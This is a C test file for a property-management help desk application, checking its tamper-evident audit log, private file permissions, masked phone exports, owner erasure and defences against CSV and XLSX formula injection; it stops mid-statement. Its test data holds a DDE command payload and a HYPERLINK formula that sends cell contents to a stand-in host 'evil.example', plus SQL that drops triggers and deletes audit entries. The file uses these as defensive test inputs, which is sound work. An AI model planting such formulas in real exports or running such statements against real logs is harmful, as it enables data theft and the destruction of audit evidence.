/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test-privacy.c — owners' privacy, the tamper-evident audit log, bad input
 *
 * Every check here is what an auditor or an attacker would try: change or
 * remove audit entries with another tool, read a database or an export
 * from another account, export full phone numbers without the right, put
 * a formula into a spreadsheet, look for an erased owner in the file's
 * bytes, and feed SQL, FTS5 syntax and control characters to every entry
 * point.
 */
#include "config.h"

#include <gio/gio.h>
#include <string.h>
#include <sys/stat.h>

#include "kefu-audit.h"
#include "kefu-demo.h"
#include "kefu-desk.h"
#include "kefu-dispatch.h"
#include "kefu-enums.h"
#include "kefu-export.h"
#include "kefu-import.h"
#include "kefu-desk-lifecycle.h"
#include "kefu-privacy.h"
#include "kefu-report.h"
#include "kefu-search.h"
#include "kefu-store.h"
#include "kefu-test-util.h"

typedef struct {
  KefuTestDir  dir;
  char        *path;
  KefuStore   *store;
} Fixture;

static gint64
user_id (Fixture    *f,
         const char *login)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(KefuUser) user = kefu_desk_find_user (f->store, login, &error);

  g_assert_no_error (error);
  g_assert_nonnull (user);
  return kefu_user_get_id (user);
}

static void
act_as (Fixture    *f,
        const char *login)
{
  kefu_store_set_actor (f->store, user_id (f, login));
}

static void
fixture_setup (Fixture       *f,
               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  KefuDemoOptions options = { 120, 5, TEST_NOW };

  umask (022);   /* what a desktop session has: new files would be world-readable */
  kefu_test_dir_setup (&f->dir, data);
  f->path = kefu_test_path (&f->dir, "kefu.db");
  f->store = kefu_store_open (f->path, KEFU_STORE_OPEN_DEFAULT, &error);
  g_assert_no_error (error);
  kefu_store_set_now (f->store, TEST_NOW);   /* every write of the tests is at this moment */
  g_assert_true (kefu_demo_generate (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  /* tickets stay where the tests put them: the dispatcher turns the rules off */
  kefu_store_set_actor (f->store, kefu_test_scalar (f->path, "SELECT id FROM users WHERE login = 'huangwei'"));
  g_assert_true (kefu_dispatch_set_auto (f->store, FALSE, &error));
  kefu_store_set_actor (f->store, 0);
}

static void
fixture_teardown (Fixture       *f,
                  gconstpointer  data)
{
  g_clear_object (&f->store);
  g_free (f->path);
  kefu_test_dir_teardown (&f->dir, data);
}

#define ADD(path, func) g_test_add (path, Fixture, NULL, fixture_setup, func, fixture_teardown)

static gint64
scalar (Fixture    *f,
        const char *sql)
{
  return kefu_test_scalar (f->path, sql);
}

static char *
text_of (Fixture    *f,
         const char *sql)
{
  return kefu_test_other_text (f->path, sql);
}

/* What another tool does to the database: the statements from @first to
 * NULL, in order, on a connection of its own. The first refusal's
 * message (the rest are not run), or NULL when all went through. */
G_GNUC_NULL_TERMINATED static char *
other_exec (const char *path,
            const char *first,
            ...)
{
  g_autoptr(KefuStore) other = kefu_test_other_store_for (path);
  va_list args;
  char *refused = NULL;

  va_start (args, first);
  for (const char *sql = first; sql != NULL && refused == NULL; sql = va_arg (args, const char *))
    {
      g_autoptr(GError) error = NULL;

      if (!kefu_test_try_exec (other, sql, &error))
        refused = g_strdup (error->message);
    }
  va_end (args);
  return refused;
}

static guint
file_mode (const char *path)
{
  struct stat st;

  g_assert_cmpint (g_stat (path, &st), ==, 0);
  return st.st_mode & 0777;
}

static gboolean
file_holds (const char *path,
            const char *needle)
{
  g_autofree char *contents = NULL;
  gsize len;

  gsize n = strlen (needle);

  if (!g_file_get_contents (path, &contents, &len, NULL))
    return FALSE;
  for (gsize i = 0; i + n <= len; i++)
    if (contents[i] == needle[0] && memcmp (contents + i, needle, n) == 0)
      return TRUE;
  return FALSE;
}

static gint64
log_ticket (Fixture    *f,
            gint64      owner,
            const char *contact_name,
            const char *phone,
            const char *description)
{
  KefuTicketDraft d = { "phone", "repair", "plumbing_electrical", 3, 0, 0, NULL, owner,
                        contact_name, phone, description, 0 };
  g_autoptr(GError) error = NULL;
  gint64 id;

  d.building_id = scalar (f, "SELECT id FROM buildings WHERE name = '3栋'");
  d.unit_id = scalar (f, "SELECT u.id FROM units u JOIN buildings b ON b.id = u.building_id WHERE b.name = '3栋' AND u.name = '502'");
  id = kefu_desk_create_ticket (f->store, &d, &error);
  g_assert_no_error (error);
  g_assert_cmpint (id, >, 0);
  return id;
}

/* Audit log ------------------------------------------------------------------ */

static void
test_audit_chain (Fixture       *f,
                  gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *refused = NULL;
  g_autofree char *tampered = NULL;
  KefuAuditHead head, after;
  gint64 ticket, broken, entries;

  gint64 before = scalar (f, "SELECT count(*) FROM audit_log");

  act_as (f, "chenjing");
  ticket = log_ticket (f, 0, "路人", "13800001111", "楼道灯不亮");
  g_assert_true (kefu_desk_add_note (f->store, ticket, "已通知电工", &error));
  g_assert_no_error (error);

  /* the sample is one entry (and the rules turned off another); the ticket and its note one each, by their ids */
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log WHERE action = 'load_sample'"), ==, 1);
  g_assert_cmpint (before, ==, 2);
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log"), ==, before + 2);
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log a JOIN ticket_events e ON a.detail = 'event=' || e.id "
                              "WHERE a.subject_table = 'tickets' AND a.subject_id = e.ticket_id AND a.action = 'ticket_' || e.kind "
                              "AND a.user_id = e.user_id AND a.at = e.at"), ==, 2);
  g_assert_true (kefu_audit_verify (f->store, NULL, &head, &broken, &error));
  g_assert_no_error (error);
  entries = scalar (f, "SELECT count(*) FROM audit_log");
  g_assert_cmpint (head.entries, ==, entries);
  g_assert_cmpint (head.last_id, ==, scalar (f, "SELECT max(id) FROM audit_log"));

  /* each hash is SHA-256 of the previous hash, a line feed and the canonical form (the README's recipe) */
  {
    g_autofree char *prev = text_of (f, "SELECT hash FROM audit_log WHERE id = (SELECT max(id) - 1 FROM audit_log)");
    g_autofree char *last = text_of (f, "SELECT hash FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)");
    g_autofree char *action = text_of (f, "SELECT action FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)");
    g_autofree char *detail = text_of (f, "SELECT detail FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)");
    g_autofree char *canonical = kefu_audit_canonical (head.last_id, TEST_NOW, user_id (f, "chenjing"), action, "tickets",
                                                       ticket, detail);
    g_autofree char *input = g_strconcat (prev, "\n", canonical, NULL);
    g_autofree char *expected = g_compute_checksum_for_string (G_CHECKSUM_SHA256, input, -1);

    g_assert_cmpstr (action, ==, "ticket_note");
    g_assert_cmpstr (last, ==, expected);
    g_assert_cmpstr (head.hash, ==, expected);
  }

  /* the file refuses changes and removals, from the app and from any tool */
  refused = other_exec (f->path, "UPDATE audit_log SET user_id = NULL WHERE id = 2", NULL);
  g_assert_nonnull (refused);
  g_assert_nonnull (strstr (refused, "append-only"));
  g_clear_pointer (&refused, g_free);
  refused = other_exec (f->path, "DELETE FROM audit_log", NULL);
  g_assert_nonnull (strstr (refused, "append-only"));
  g_clear_pointer (&refused, g_free);
  refused = other_exec (f->path, "DELETE FROM ticket_events WHERE ticket_id = 1", NULL);
  g_assert_nonnull (strstr (refused, "append-only"));
  g_clear_pointer (&refused, g_free);
  refused = other_exec (f->path, "UPDATE ticket_events SET body = '没有通知' WHERE kind = 'note'", NULL);
  g_assert_nonnull (strstr (refused, "append-only"));
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log"), ==, entries);

  /* someone drops the trigger and edits entry 2: verify names it */
  g_assert_null (other_exec (f->path, "DROP TRIGGER audit_log_no_update", "UPDATE audit_log SET user_id = user_id + 1 WHERE id = 2", NULL));
  g_assert_false (kefu_audit_verify (f->store, NULL, &after, &broken, &error));
  g_assert_error (error, KEFU_AUDIT_ERROR, KEFU_AUDIT_ERROR_BROKEN);
  g_assert_cmpint (broken, ==, 2);
  tampered = g_strdup (error->message);
  g_assert_nonnull (strstr (tampered, " 2 "));
}

static void
test_audit_anchor (Fixture       *f,
                   gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *anchor_path = g_strconcat (f->path, ".audit-anchor", NULL);
  g_autofree char *contents = NULL;
  g_autofree char *line = NULL;
  KefuAuditHead head, anchor;
  gint64 broken, last;

  act_as (f, "xuqiang");
  for (int i = 0; i < 3; i++)
    log_ticket (f, 0, "路人", "13800001111", "电梯异响");
  g_assert_true (kefu_audit_get_head (f->store, &head, &error));
  last = head.last_id;
  g_assert_cmpint (last, >=, 4);

  /* closing the connection that appended anchors the head beside the file, for its owner only */
  g_clear_object (&f->store);
  g_assert_true (g_file_get_contents (anchor_path, &contents, NULL, NULL));
  g_assert_cmpuint (file_mode (anchor_path), ==, 0600);
  line = g_strdup_printf ("\nlast %" G_GINT64_FORMAT "\nsha256 %s\n", last, head.hash);
  g_assert_nonnull (strstr (contents, line));
  g_assert_true (kefu_audit_read_anchor (anchor_path, &anchor, &error));
  g_assert_cmpint (anchor.last_id, ==, last);
  g_assert_cmpint (anchor.entries, ==, head.entries);

  /* the tail cut off with the triggers dropped: the chain alone holds, the anchor does not */
  g_assert_null (other_exec (f->path, "DROP TRIGGER audit_log_no_delete", "DELETE FROM audit_log WHERE id >= (SELECT max(id) - 1 FROM audit_log)", NULL));
  f->store = kefu_store_open (f->path, KEFU_STORE_OPEN_DEFAULT, &error);
  g_assert_no_error (error);
  kefu_store_set_now (f->store, TEST_NOW);
  g_assert_true (kefu_audit_verify (f->store, NULL, &head, &broken, &error));
  g_assert_cmpint (head.last_id, ==, last - 2);
  g_assert_false (kefu_audit_verify (f->store, &anchor, &head, &broken, &error));
  g_assert_error (error, KEFU_AUDIT_ERROR, KEFU_AUDIT_ERROR_TRUNCATED);
  g_assert_cmpint (broken, ==, last - 1);
  g_clear_error (&error);

  /* and the app will not overwrite the evidence when it appends and closes again */
  act_as (f, "xuqiang");
  log_ticket (f, 0, "路人", "13800001111", "电梯又异响");
  g_assert_false (kefu_audit_write_anchor (f->store, &error));
  g_assert_error (error, KEFU_AUDIT_ERROR, KEFU_AUDIT_ERROR_ANCHOR);
  g_clear_error (&error);
  g_clear_object (&f->store);
  g_assert_true (kefu_audit_read_anchor (anchor_path, &anchor, &error));
  g_assert_cmpint (anchor.last_id, ==, last);

  /* the whole log emptied */
  g_assert_null (other_exec (f->path, "DELETE FROM audit_log", NULL));
  f->store = kefu_store_open (f->path, KEFU_STORE_OPEN_DEFAULT, &error);
  g_assert_no_error (error);
  kefu_store_set_now (f->store, TEST_NOW);
  g_assert_false (kefu_audit_verify (f->store, &anchor, &head, &broken, &error));
  g_assert_error (error, KEFU_AUDIT_ERROR, KEFU_AUDIT_ERROR_TRUNCATED);
  g_assert_nonnull (strstr (error->message, "emptied"));
  g_clear_error (&error);

  /* an anchor given by hand (the monthly report's): its form */
  g_assert_false (kefu_audit_head_parse ("12:abc", &anchor));
  g_assert_true (kefu_audit_head_parse ("4:" "0123456789abcdef0123456789abcdef0123456789ABCDEF0123456789abcdef", &anchor));
  g_assert_cmpint (anchor.last_id, ==, 4);
  g_assert_cmpstr (anchor.hash, ==, "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
}

static void
test_audit_timeline (Fixture       *f,
                     gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  KefuAuditHead head;
  gint64 ticket, event, broken;

  act_as (f, "chenjing");
  ticket = log_ticket (f, 0, "路人", "13800001111", "水管爆裂");
  g_assert_true (kefu_desk_add_note (f->store, ticket, "已关总阀", &error));
  event = scalar (f, "SELECT max(id) FROM ticket_events");
  g_assert_true (kefu_audit_verify (f->store, NULL, &head, &broken, &error));

  /* a timeline note removed behind the triggers' back: the audit entry that recorded it says so */
  {
    g_assert_null (other_exec (f->path, "DROP TRIGGER ticket_events_no_delete", NULL));
    kefu_test_other_exec (f->path, "DELETE FROM ticket_events WHERE id = ?1", KEFU_TEST_INT (event));
  }
  g_assert_false (kefu_audit_verify (f->store, NULL, &head, &broken, &error));
  g_assert_error (error, KEFU_AUDIT_ERROR, KEFU_AUDIT_ERROR_TIMELINE);
  g_assert_cmpint (broken, ==, scalar (f, "SELECT max(id) FROM audit_log"));
}

/* The monthly report anchors the head too: what a manager files away. */
static void
test_audit_report_anchor (Fixture       *f,
                          gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *pdf = kefu_test_path (&f->dir, "report.pdf");
  g_autofree char *pdftotext = g_find_program_in_path ("pdftotext");
  g_autofree char *text = NULL, *anchor = NULL, *flat = NULL;
  const char *argv[] = { "pdftotext", "-l", "1", pdf, "-", NULL };
  KefuAuditHead head, parsed;
  gint64 broken;
  int status;

  if (pdftotext == NULL)
    {
      g_test_skip ("pdftotext is not installed");
      return;
    }
  act_as (f, "xuqiang");
  log_ticket (f, 0, "路人", "13800001111", "大堂灯坏了");
  g_assert_true (kefu_report_monthly (f->store, "2026-11", pdf, &error));
  g_assert_no_error (error);
  g_assert_true (kefu_audit_get_head (f->store, &head, &error));
  anchor = kefu_audit_head_to_string (&head);
  g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH | G_SPAWN_STDERR_TO_DEV_NULL,
                               NULL, NULL, &text, NULL, &status, &error));
  flat = g_strdelimit (g_strdup (text), "\n", ' ');
  {
    g_autoptr(GString) joined = g_string_new (flat);
    g_string_replace (joined, " ", "", 0);
    g_assert_nonnull (strstr (joined->str, anchor));
  }
  /* and that anchor, typed back, checks the log */
  g_assert_true (kefu_audit_head_parse (anchor, &parsed));
  g_assert_true (kefu_audit_verify (f->store, &parsed, NULL, &broken, &error));
  g_assert_no_error (error);
}

/* A log from before the chain: migrating hashes it in order. */
static void
test_audit_migration (KefuTestDir   *d,
                      gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = kefu_test_path (d, "old.db");
  g_autoptr(KefuStore) old = kefu_store_open_at_version (path, 12, &error);
  g_autoptr(KefuStore) store = NULL;
  KefuAuditHead head;
  gint64 broken;

  g_assert_no_error (error);
  /* what a desk of that version wrote */
  kefu_test_exec (old, "INSERT INTO audit_log (at, user_id, action, subject_table, subject_id, detail) VALUES "
                       "(1790000000, NULL, 'reveal_phone', 'tickets', 3, 'GD202511010001'),"
                       "(1790000100, NULL, 'suspend_team', 'teams', 2, '2025-10 评分 78'),"
                       "(1790000200, NULL, 'auto_dispatch_off', 'settings', 0, NULL)");
  g_clear_object (&old);
  store = kefu_store_open (path, KEFU_STORE_OPEN_DEFAULT, &error);
  g_assert_no_error (error);
  kefu_store_set_now (store, TEST_NOW);
  g_assert_cmpint (kefu_test_scalar (path, "SELECT count(*) FROM audit_log WHERE length(hash) = 64"), ==, 3);
  g_assert_true (kefu_audit_verify (store, NULL, &head, &broken, &error));
  g_assert_no_error (error);
  g_assert_cmpint (head.entries, ==, 3);
  /* and the next entry continues the chain */
  g_assert_true (kefu_audit_append (store, 0, "set_setting", "settings", 0, "key=related_days", &error));
  g_assert_true (kefu_audit_verify (store, NULL, &head, &broken, &error));
  g_assert_cmpint (head.last_id, ==, 4);
}

/* Files ------------------------------------------------------------------------ */

static void
test_files_private (KefuTestDir   *d,
                    gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = kefu_test_path (d, "new.db");
  g_autofree char *wal = g_strconcat (path, "-wal", NULL);
  g_autofree char *shm = g_strconcat (path, "-shm", NULL);
  g_autoptr(KefuStore) store = NULL;

  umask (022);
  store = kefu_store_open (path, KEFU_STORE_OPEN_DEFAULT, &error);
  g_assert_no_error (error);
  kefu_store_set_now (store, TEST_NOW);
  g_assert_cmpint (kefu_desk_add_user (store, "admin", "管理员", "admin", NULL, &error), >, 0);
  g_assert_true (g_file_test (wal, G_FILE_TEST_EXISTS) && g_file_test (shm, G_FILE_TEST_EXISTS));
  g_assert_cmpuint (file_mode (path), ==, 0600);
  g_assert_cmpuint (file_mode (wal), ==, 0600);
  g_assert_cmpuint (file_mode (shm), ==, 0600);
}

/* Exports ----------------------------------------------------------------------- */

static void
test_export_masked_by_default (Fixture       *f,
                               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *masked = kefu_test_path (&f->dir, "masked.csv");
  g_autofree char *full = kefu_test_path (&f->dir, "full.csv");
  g_autofree char *full_xlsx = kefu_test_path (&f->dir, "full.xlsx");
  g_autofree char *phone = NULL, *name = NULL, *masked_phone = NULL, *masked_name = NULL;
  g_autofree char *contents = NULL;
  KefuExportOptions options = { KEFU_EXPORT_CSV, masked, 0, 0, FALSE, NULL, FALSE };
  gint64 ticket;

  /* a caller dictated a second number into the description */
  act_as (f, "chenjing");
  ticket = log_ticket (f, scalar (f, "SELECT min(id) FROM owners WHERE phone IS NOT NULL"), NULL, NULL,
                       "卫生间漏水，另一个电话139-8765-4321，工单GD202611250001已报过");
  phone = text_of (f, "SELECT contact_phone FROM tickets ORDER BY id DESC LIMIT 1");
  name = text_of (f, "SELECT o.name FROM tickets t JOIN owners o ON o.id = t.owner_id ORDER BY t.id DESC LIMIT 1");
  g_assert_cmpint (ticket, >, 0);
  masked_phone = kefu_mask_phone (phone);
  masked_name = kefu_mask_name (name);

  /* by default: names and phones masked, also inside the description; ticket numbers left alone */
  g_assert_true (kefu_export_tickets (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (file_mode (masked), ==, 0600);
  g_assert_true (g_file_get_contents (masked, &contents, NULL, NULL));
  g_assert_null (strstr (contents, phone));
  g_assert_null (strstr (contents, "139-8765-4321"));
  g_assert_false (g_regex_match_simple ("(?<![0-9A-Z])1[3-9][0-9]{9}(?![0-9])", contents, 0, 0));
  {
    g_autofree char *row = g_strdup_printf (",%s,%s,卫生间漏水，另一个电话139****4321，工单GD202611250001已报过,",
                                            masked_name, masked_phone);
    g_assert_nonnull (strstr (contents, row));
  }
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log WHERE action = 'export_tickets' AND detail LIKE 'format=csv rows=%' "
                              "AND user_id = (SELECT id FROM users WHERE login = 'chenjing')"), ==, 1);

  /* in full: an agent may not, and nothing is written or audited as full */
  options.path = full;
  options.full = TRUE;
  g_assert_false (kefu_export_tickets (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_error (error, KEFU_STORE_ERROR, KEFU_STORE_ERROR_PERMISSION);
  g_clear_error (&error);
  act_as (f, "guohong");   /* a trainer neither */
  g_assert_false (kefu_export_tickets (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_error (error, KEFU_STORE_ERROR, KEFU_STORE_ERROR_PERMISSION);
  g_clear_error (&error);
  kefu_store_set_actor (f->store, 0);   /* nor nobody */
  g_assert_false (kefu_export_tickets (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_error (error, KEFU_STORE_ERROR, KEFU_STORE_ERROR_PERMISSION);
  g_clear_error (&error);
  g_assert_false (g_file_test (full, G_FILE_TEST_EXISTS));
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log WHERE action = 'export_tickets_full'"), ==, 0);

  /* a supervisor may, and it is audited under their name */
  act_as (f, "xuqiang");
  g_assert_true (kefu_export_tickets (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_clear_pointer (&contents, g_free);
  g_assert_true (g_file_get_contents (full, &contents, NULL, NULL));
  g_assert_nonnull (strstr (contents, phone));
  g_assert_nonnull (strstr (contents, "139-8765-4321"));
  g_assert_cmpuint (file_mode (full), ==, 0600);
  options.format = KEFU_EXPORT_XLSX;
  options.path = full_xlsx;
  g_assert_true (kefu_export_tickets (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_cmpuint (file_mode (full_xlsx), ==, 0600);
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log WHERE action = 'export_tickets_full' "
                              "AND user_id = (SELECT id FROM users WHERE login = 'xuqiang')"), ==, 2);
  /* audit entries never carry the data itself */
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log WHERE instr(coalesce(detail, ''), '1') AND detail GLOB '*1[3-9][0-9][0-9][0-9][0-9][0-9][0-9][0-9][0-9][0-9]*'"), ==, 0);
}

static const char *const formulas[] = {
  "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")",
  "=cmd|' /C calc'!A0",
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1:A9)",
  "'=already quoted once",
  "普通的描述，不以公式开头 =1+1",
};

static void
set_descriptions (Fixture *f)
{
  /* what callers said, typed in as they said it (tickets 1…7 of the sample) */
  for (guint i = 0; i < G_N_ELEMENTS (formulas); i++)
    {
      kefu_test_other_exec (f->path, "UPDATE tickets SET description = ?1 WHERE id = ?2",
                            KEFU_TEST_TEXT (formulas[i]), KEFU_TEST_INT (i + 1));
    }
}

static void
test_export_csv_injection (Fixture       *f,
                           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *csv = kefu_test_path (&f->dir, "tickets.csv");
  g_autofree char *copy_path = kefu_test_path (&f->dir, "copy.db");
  g_autofree char *contents = NULL;
  g_autoptr(KefuStore) copy = NULL;
  g_autoptr(KefuImportReport) report = NULL;
  g_auto(GStrv) lines = NULL;
  KefuExportOptions options = { KEFU_EXPORT_CSV, csv, 0, 0, FALSE, NULL, TRUE };

  set_descriptions (f);
  act_as (f, "admin");
  g_assert_true (kefu_export_tickets (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (csv, &contents, NULL, NULL));
  lines = g_strsplit (contents, "\r\n", -1);

  /* every text cell a spreadsheet would run starts with an apostrophe; nothing else does */
  g_assert_nonnull (strstr (contents, ",\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"点击查看\"\")\","));
  g_assert_nonnull (strstr (contents, ",'=cmd|' /C calc'!A0,"));
  g_assert_nonnull (strstr (contents, ",\"'+SUM(1,2)\","));
  g_assert_nonnull (strstr (contents, ",'-2+3,"));
  g_assert_nonnull (strstr (contents, ",'@SUM(A1:A9),"));
  g_assert_nonnull (strstr (contents, ",''=already quoted once,"));
  g_assert_nonnull (strstr (contents, ",普通的描述，不以公式开头 =1+1,"));
  g_assert_false (g_regex_match_simple ("(^|,)[=+@\\-]", contents, G_REGEX_MULTILINE, 0));
  /* numbers and dates as they are: the ratings column holds bare digits */
  g_assert_true (g_regex_match_simple (",[1-5],[0-9]+,(20[0-9]{2}-[0-9]{2}-[0-9]{2} [0-9:]{8})?,", contents, 0, 0));
  g_assert_true (g_regex_match_simple ("^GD[0-9]{12},20[0-9]{2}-[0-9]{2}-[0-9]{2} [0-9]{2}:[0-9]{2}:[0-9]{2},", lines[1], 0, 0));

  /* Kefu's own import takes the apostrophes off again: the same descriptions */
  copy = kefu_store_open (copy_path, KEFU_STORE_OPEN_DEFAULT, &error);
  g_assert_no_error (error);
  kefu_store_set_now (copy, TEST_NOW);
  report = kefu_import_tickets (copy, csv, NULL, NULL, NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (kefu_import_report_get_n_problems (report), ==, 0);
  for (guint i = 0; i < G_N_ELEMENTS (formulas); i++)
    {
      g_autofree char *by_id = g_strdup_printf ("SELECT number FROM tickets WHERE id = %u", i + 1);
      g_autofree char *number = text_of (f, by_id);
      g_autofree char *in_copy = kefu_test_other_row_text (copy_path, "SELECT description FROM tickets WHERE number = ?1",
                                                           KEFU_TEST_TEXT (number));
      g_assert_cmpstr (in_copy, ==, formulas[i]);
    }
}

static char *
unzip (const char *archive,
       const char *member)
{
  const char *argv[] = { "unzip", "-p", archive, member, NULL };
  g_autoptr(GError) error = NULL;
  char *out = NULL;
  int status;

  g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH | G_SPAWN_STDERR_TO_DEV_NULL,
                               NULL, NULL, &out, NULL, &status, &error));
  g_assert_no_error (error);
  return out;
}

static void
test_export_xlsx_strings (Fixture       *f,
                          gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = kefu_test_path (&f->dir, "tickets.xlsx");
  g_autofree char *sheet = NULL, *strings = NULL;
  g_autofree char *unzip_path = g_find_program_in_path ("unzip");
  g_autoptr(GRegex) cell = NULL;
  g_autoptr(GMatchInfo) match = NULL;
  KefuExportOptions options = { KEFU_EXPORT_XLSX, path, 0, 0, FALSE, NULL, FALSE };

  if (unzip_path == NULL)
    {
      g_test_skip ("unzip is not installed");
      return;
    }
  set_descriptions (f);
  act_as (f, "chenjing");
  g_assert_true (kefu_export_tickets (f->store, &options, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  sheet = unzip (path, "xl/worksheets/sheet1.xml");
  strings = unzip (path, "xl/sharedStrings.xml");   /* empty: constant-memory mode writes strings inline */

  /* no formula anywhere in the sheet */
  g_assert_null (strstr (sheet, "<f>"));
  g_assert_null (strstr (sheet, "<f "));
  /* the HYPERLINK description is an inline string cell, its text escaped as XML text */
  cell = g_regex_new ("<c r=\"M2\"[^>]* t=\"(inlineStr|s|str)\"[^>]*>(.*?)</c>", 0, 0, NULL);
  g_assert_true (g_regex_match (cell, sheet, 0, &match));
  {
    g_autofree char *type = g_match_info_fetch (match, 1);
    g_autofree char *body = g_match_info_fetch (match, 2);

    g_assert_cmpstr (type, ==, "inlineStr");
    g_assert_cmpstr (body, ==, "<is><t>=HYPERLINK(\"http://evil.example/?q=\"&amp;A1,\"点击查看\")</t></is>");
  }
  g_assert_nonnull (strstr (sheet, "<t>=cmd|' /C calc'!A0</t>"));
  g_assert_nonnull (strstr (sheet, "<t>@SUM(A1:A9)</t>"));
}

/* Erasure -------------------------------------------------------------------- */

static void
test_owner_erasure (Fixture       *f,
                    gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GListStore) found = NULL;
  g_autoptr(GArray) hits = NULL;
  g_autofree char *wal = g_strconcat (f->path, "-wal", NULL);
  const char *name = "欧阳测试", *phone = "13912345678";
  g_autofree char *states_sql = NULL, *states_before = NULL;
  KefuErasureReport report;
  KefuTicketQuery q = { 0 };
  gint64 owner, t1, t2, other, tickets_before, note_before;

  owner = scalar (f, "SELECT max(id) FROM owners") + 1;
  {
    g_autoptr(KefuStore) tool = kefu_test_other_store_for (f->path);

    kefu_test_exec (tool, "INSERT INTO owners (id, name, phone, note, created_at) VALUES (?1, ?2, ?3, '爱养猫', 0)",
                    KEFU_TEST_INT (owner), KEFU_TEST_TEXT (name), KEFU_TEST_TEXT (phone));
    kefu_test_exec (tool, "INSERT INTO owner_units (owner_id, unit_id, relation) SELECT ?1, u.id, 'owner' FROM units u "
                          "  JOIN buildings b ON b.id = u.building_id WHERE b.name = '3栋' AND u.name = '502'",
                    KEFU_TEST_INT (owner));
    kefu_test_exec (tool, "INSERT INTO owner_tags (owner_id, tag) VALUES (?1, '老年业主')", KEFU_TEST_INT (owner));
  }
  act_as (f, "chenjing");
  t1 = log_ticket (f, owner, NULL, NULL, "欧阳测试家卫生间漏水，回电13912345678");
  t2 = log_ticket (f, owner, "欧阳测试", "139 1234 5678", "阳台门关不上");
  other = log_ticket (f, 0, "邻居", "13700000000", "楼上漏水到我家");
  g_assert_true (kefu_desk_add_note (f->store, t2, "欧阳测试说晚上在家，电话139-1234-5678", &error));
  g_assert_true (kefu_desk_add_note (f->store, other, "楼上业主电话13912345678，已联系", &error));
  {
    g_autoptr(GBytes) photo = g_bytes_new_static ("\x89PNG欧阳测试", 14);
    g_assert_cmpint (kefu_desk_add_attachment (f->store, t1, "卫生间.png", "image/png", photo, &error), >, 0);
  }
  g_assert_no_error (error);
  found = kefu_desk_find_owners (f->store, "13912345678", 5, &error);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (found)), ==, 1);
  g_clear_object (&found);
  tickets_before = scalar (f, "SELECT count(*) FROM tickets");
  note_before = scalar (f, "SELECT count(*) FROM ticket_events");
  states_sql = g_strdup_printf ("SELECT group_concat(id || ':' || status || ':' || kind || ':' || coalesce(team_id, '-'), ' ') "
                                "FROM tickets WHERE owner_id = %" G_GINT64_FORMAT, owner);
  states_before = text_of (f, states_sql);

  /* only managers and administrators */
  g_assert_false (kefu_owner_erase (f->store, owner, &report, &error));
  g_assert_error (error, KEFU_STORE_ERROR, KEFU_STORE_ERROR_PERMISSION);
  g_clear_error (&error);
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM owner_erasures"), ==, 0);

  act_as (f, "zhengjun");
  g_assert_true (kefu_owner_erase (f->store, owner, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpint (report.tickets, ==, 2);
  g_assert_cmpint (report.attachments, ==, 1);
  g_assert_cmpint (report.texts, >=, 4);

  /* the tickets stay, with their kind, place, status and timeline */
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM tickets"), ==, tickets_before);
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM ticket_events"), ==, note_before);
  {
    g_autofree char *after = text_of (f, states_sql);
    g_assert_cmpstr (after, ==, states_before);
  }
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM tickets WHERE owner_id = (SELECT max(id) FROM owners) "
                              "AND location = '3栋502'"), ==, 2);
  /* nothing of the owner is left anywhere in the tables */
  {
    static const char *const where[] = {
      "SELECT count(*) FROM owners WHERE instr(name, '%1$s') OR instr(phone, '%2$s') OR note IS NOT NULL AND id = %3$s",
      "SELECT count(*) FROM tickets WHERE instr(coalesce(description, '') || coalesce(contact_name, '') || coalesce(contact_phone, ''), '%1$s') "
      "  OR instr(replace(replace(coalesce(description, '') || coalesce(contact_phone, ''), ' ', ''), '-', ''), '%2$s')",
      "SELECT count(*) FROM ticket_events WHERE instr(body, '%1$s') OR instr(replace(replace(body, ' ', ''), '-', ''), '%2$s')",
